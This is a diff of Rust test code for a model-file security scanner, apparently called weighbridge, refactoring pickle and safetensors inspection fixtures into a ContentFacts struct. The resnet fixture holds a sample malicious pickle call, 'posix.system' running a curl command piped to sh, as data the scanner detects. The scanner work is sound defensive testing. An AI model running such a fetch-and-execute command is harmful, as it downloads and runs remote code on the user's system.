@@ -3,8 +3,9 @@
 use weighbridge::policy::Refusal;
 use weighbridge::{
     fact::{
-        Anomaly, Fact, Global, GlobalName, Hop, ListingLine, Observation, PickleAnomaly, Place,
-        SafetensorsAnomaly, Short, Site, Text, Unread, Unresolved, Usage, deceives,
+        Anomaly, ContentFacts, Fact, Global, GlobalName, Hop, ListingLine, Observation,
+        PickleAnomaly, Place, SafetensorsAnomaly, Short, Site, Text, Unread, Unresolved, Usage,
+        deceives,
     },
     report::{self, Style},
     verdict::{GlobalRefusal, Inspection, JudgedGlobal, TorchVerdict},
@@ -107,69 +108,72 @@ fn resnet() -> Inspection {
         path: "models/resnet.pt".into(),
         size: 46_830_571,
         policy: "recommended (built in)".to_owned(),
-        observations: vec![
-            seen(Fact::Is("torch-zip".into()), &[], Place::Whole, 1),
-            member("archive/data.pkl", 1_234),
-            member("archive/data/0", 37_632),
-            member("archive/version", 2),
-            seen(Fact::Is("pickle".into()), &pickle, Place::Whole, 1),
-            seen(
-                call(
-                    &rebuild,
-                    "torch._utils._rebuild_tensor_v2(<persistent id ('storage', torch.FloatStorage, '0', 'cpu', 9408)>, 0, (64, 3, 7, 7), …)",
+        facts: ContentFacts {
+            observations: vec![
+                seen(Fact::Is("torch-zip".into()), &[], Place::Whole, 1),
+                member("archive/data.pkl", 1_234),
+                member("archive/data/0", 37_632),
+                member("archive/version", 2),
+                seen(Fact::Is("pickle".into()), &pickle, Place::Whole, 1),
+                seen(
+                    call(
+                        &rebuild,
+                        "torch._utils._rebuild_tensor_v2(<persistent id ('storage', torch.FloatStorage, '0', 'cpu', 9408)>, 0, (64, 3, 7, 7), …)",
+                    ),
+                    &pickle,
+                    at(0x5a, "REDUCE"),
+                    62,
                 ),
-                &pickle,
-                at(0x5a, "REDUCE"),
-                62,
-            ),
-            seen(
-                call(&system, "posix.system('curl https://cdn.example/x | sh')"),
-                &pickle,
-                at(0x1f, "REDUCE"),
-                1,
-            ),
-            seen(
-                Fact::PersistentId {
-                    preview: "('storage', …)".into(),
-                    torch_storage: true,
-                },
-                &pickle,
-                at(0x44, "BINPERSID"),
-                62,
-            ),
-            seen(
-                Fact::StateOnNonInstance {
-                    target: "torch.nn.functional".into(),
-                },
-                &pickle,
-                at(0x90, "BUILD"),
-                1,
-            ),
-            seen(
-                Anomaly::from(PickleAnomaly::BytesAfterStop {
-                    bytes: 31,
-                    zeros: false,
-                })
-                .into(),
-                &pickle,
-                Place::Bytes {
-                    start: 1_203,
-                    end: 1_234,
-                },
-                1,
-            ),
-            seen(
-                Fact::Unread(Unread::Malformed {
-                    detail: "opcode 0xff does not exist".into(),
-                }),
-                &pickle,
-                Place::Bytes {
-                    start: 1_203,
-                    end: 1_204,
-                },
-                1,
-            ),
-        ],
+                seen(
+                    call(&system, "posix.system('curl https://cdn.example/x | sh')"),
+                    &pickle,
+                    at(0x1f, "REDUCE"),
+                    1,
+                ),
+                seen(
+                    Fact::PersistentId {
+                        preview: "('storage', …)".into(),
+                        torch_storage: true,
+                    },
+                    &pickle,
+                    at(0x44, "BINPERSID"),
+                    62,
+                ),
+                seen(
+                    Fact::StateOnNonInstance {
+                        target: "torch.nn.functional".into(),
+                    },
+                    &pickle,
+                    at(0x90, "BUILD"),
+                    1,
+                ),
+                seen(
+                    Anomaly::from(PickleAnomaly::BytesAfterStop {
+                        bytes: 31,
+                        zeros: false,
+                    })
+                    .into(),
+                    &pickle,
+                    Place::Bytes {
+                        start: 1_203,
+                        end: 1_234,
+                    },
+                    1,
+                ),
+                seen(
+                    Fact::Unread(Unread::Malformed {
+                        detail: "opcode 0xff does not exist".into(),
+                    }),
+                    &pickle,
+                    Place::Bytes {
+                        start: 1_203,
+                        end: 1_204,
+                    },
+                    1,
+                ),
+            ],
+            ..ContentFacts::default()
+        },
         globals: vec![
             judged(
                 "posix",
@@ -289,7 +293,10 @@ fn a_file_of_nothing_but_tensors() {
     let inspection = Inspection {
         path: "model.safetensors".into(),
         size: 1 << 40,
-        observations: vec![seen(Fact::Is("safetensors".into()), &[], Place::Whole, 1)],
+        facts: ContentFacts {
+            observations: vec![seen(Fact::Is("safetensors".into()), &[], Place::Whole, 1)],
+            ..ContentFacts::default()
+        },
         ..Inspection::default()
     };
     insta::assert_snapshot!(page(&inspection, Style::default()), @"
@@ -304,8 +311,9 @@ fn a_file_of_nothing_but_tensors() {
 #[test]
 fn only_refused_calls_are_shown() {
     let mut inspection = resnet();
-    let rebuild = inspection.observations[5].clone();
+    let rebuild = inspection.facts.observations[5].clone();
     inspection
+        .facts
         .observations
         .splice(5..5, std::iter::repeat_n(rebuild, 1000));
     let text = page(&inspection, Style::default());
@@ -372,7 +380,7 @@ fn forge(name: &str) {
     }
     inspection.torch_loads[0].reasons = vec![hostile()];
     inspection.torch_loads[0].place = hostile();
-    for observation in &mut inspection.observations {
+    for observation in &mut inspection.facts.observations {
         observation.site.hops = vec![Hop::Member {
             name: hostile_text(),
             copy: 0,
